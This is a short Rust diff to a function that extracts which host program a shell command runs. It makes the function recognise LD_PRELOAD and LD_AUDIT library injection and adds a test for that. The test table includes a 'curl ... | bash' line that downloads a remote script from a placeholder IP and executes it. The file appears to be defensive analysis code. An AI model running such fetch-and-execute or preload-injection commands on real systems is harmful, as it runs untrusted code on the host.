@@ -15,6 +15,9 @@ pub(super) fn program(command: &[u8]) -> Option<HostPath> {
             redirected = sign + 1 == word.len();
             continue;
         }
+        // What is preloaded runs, too.
+        let preload = [&b"LD_PRELOAD="[..], b"LD_AUDIT="];
+        let word = preload.iter().find_map(|name| word.strip_prefix(*name)).unwrap_or(word);
         if !target && word.first() == Some(&b'/') && word.len() > 1 {
             return Some(HostPath::from(word));
         }
@@ -34,6 +37,7 @@ mod tests {
             ("echo x >/dev/null 2> /dev/null; nohup /opt/y", Some("/opt/y")),
             ("sh -c '/opt/z'", Some("/opt/z")),
             ("PATH=/usr/bin:/bin; x", None),
+            ("export LD_PRELOAD=/opt/a.so x", Some("/opt/a.so")),
             ("curl http://198.51.100.23/i.sh|bash", None),
         ] {
             assert_eq!(program(command.as_bytes()), expected.map(HostPath::from), "{command}");
